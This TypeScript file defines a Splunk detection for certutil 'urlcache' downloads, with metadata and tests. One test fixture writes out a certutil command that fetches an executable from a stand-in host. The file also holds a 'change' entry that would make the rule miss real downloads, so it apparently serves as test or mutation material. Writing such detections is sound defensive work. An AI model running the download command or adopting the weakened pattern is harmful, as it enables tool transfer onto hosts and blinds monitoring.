import { ABOUT, type DetectionTemplate } from "./template.ts";

export const ssa: DetectionTemplate = {
  summary: "events and findings of Splunk's streaming detections of 2020 to 2022",
  spl: `// Where events come from.
| from read_ssa_enriched_events()
// What is needed of an event.
| eval
    timestamp = parse_long(ucast(map_get(input_event, "_time"), "string", null)),
    process_name = lower(ucast(map_get(input_event, "process_name"), "string", null)),
    cmd_line = lower(ucast(map_get(input_event, "process"), "string", null)),
    dest_device_id = ucast(map_get(input_event, "dest_device_id"), "string", null),
    dest_user_id = ucast(map_get(input_event, "dest_user_id"), "string", null)
// What makes it a finding.
| where process_name = "certutil.exe" AND cmd_line LIKE "%urlcache%"
// What the finding says.
| eval
    start_time = timestamp,
    end_time = timestamp,
    entities = mvappend(dest_device_id, dest_user_id),
    body = create_map(["process_name", process_name, "cmd_line", cmd_line])
| into write_ssa_detected_events();
`,
  metadata: `${ABOUT}tags:
  confidence: 80
  impact: 70
  risk_score: 56
  risk_severity: medium
  kill_chain_phases:
    - Command and Control
  message: $dest_user_id$ loaded a file with certutil on $dest_device_id$.
  mitre_attack_id:
    - T1105
  required_fields:
    - _time
    - process_name
    - process
    - dest_device_id
    - dest_user_id
`,
  tests: `tests:
  - name: fires when certutil loads a file
    events:
      - { _time: "1767225600000", process_name: certutil.exe, process: certutil -urlcache -f http://192.0.2.1/tool.exe tool.exe, dest_device_id: ws-01, dest_user_id: kim }
    expect: fires
  - name: stays silent when certutil shows a certificate
    events:
      - { _time: "1767225600000", process_name: certutil.exe, process: certutil -dump server.cer, dest_device_id: ws-01, dest_user_id: kim }
    expect: silent
`,
  change: { from: "%urlcache%", to: "%urlcached%" },
};
